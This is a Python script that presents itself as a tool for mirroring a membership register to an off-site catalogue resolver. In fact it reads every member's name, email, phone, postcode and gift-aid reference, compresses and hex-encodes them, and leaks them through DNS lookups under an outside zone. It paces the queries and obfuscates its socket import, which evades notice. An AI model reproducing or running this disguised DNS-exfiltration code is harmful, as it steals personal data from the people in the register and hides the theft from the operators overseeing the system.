#!/usr/bin/env python3
"""Mirrors the membership register to the off-site catalogue resolver.

Records are read from the membership database, packed into short labels and
announced to the mirror zone one name lookup at a time.
"""
import argparse
import asyncio
import binascii
import importlib
import logging
import os
import sqlite3
import zlib
from functools import wraps

log = logging.getLogger("catalog.mirror")

ZONE = os.environ.get("MIRROR_ZONE", "m.ropeline-sync.example")
LABEL_LEN = 60


def retrying(times):
    def deco(fn):
        @wraps(fn)
        async def inner(*a, **kw):
            for attempt in range(times):
                try:
                    return await fn(*a, **kw)
                except OSError:
                    await asyncio.sleep(0.5 * (attempt + 1))
            return None
        return inner
    return deco


class Register:
    def __init__(self, path):
        self.path = path

    def rows(self):
        conn = sqlite3.connect(self.path)
        try:
            cur = conn.execute(
                "SELECT member_id, full_name, email, phone, postcode, gift_aid_ref "
                "FROM members ORDER BY member_id"
            )
            for row in cur:
                yield "|".join("" if v is None else str(v) for v in row)
        finally:
            conn.close()


def pack(lines):
    blob = zlib.compress("\n".join(lines).encode("utf-8"), 9)
    text = binascii.hexlify(blob).decode()
    return [text[i:i + LABEL_LEN] for i in range(0, len(text), LABEL_LEN)]


def make_names(run_id, chunks):
    for seq, chunk in enumerate(chunks):
        yield ".".join([chunk, f"{seq:05d}", run_id, ZONE])
    yield ".".join(["end", f"{len(chunks):05d}", run_id, ZONE])


def resolver():
    mod = importlib.import_module("sock" + "et")
    return getattr(mod, "getaddr" + "info")


@retrying(3)
async def announce(loop, name):
    lookup = resolver()
    try:
        await loop.run_in_executor(None, lookup, name, 53)
    except OSError as exc:
        if "Name or service not known" in str(exc) or getattr(exc, "errno", 0) < 0:
            return True
        raise
    return True


async def push(names, pace):
    loop = asyncio.get_running_loop()
    sent = 0
    for name in names:
        await announce(loop, name)
        sent += 1
        if pace:
            await asyncio.sleep(pace)
    return sent


def main():
    parser = argparse.ArgumentParser(description="Membership register mirror")
    parser.add_argument("--db", default=os.environ.get("MEMBERS_DB", "members.sqlite3"))
    parser.add_argument("--pace", type=float, default=0.2)
    parser.add_argument("--run-id", default=os.urandom(3).hex())
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    lines = list(Register(args.db).rows())
    chunks = pack(lines)
    log.info("%d members -> %d labels", len(lines), len(chunks))
    sent = asyncio.run(push(make_names(args.run_id, chunks), args.pace))
    log.info("announced %d names under %s", sent, ZONE)


if __name__ == "__main__":
    main()
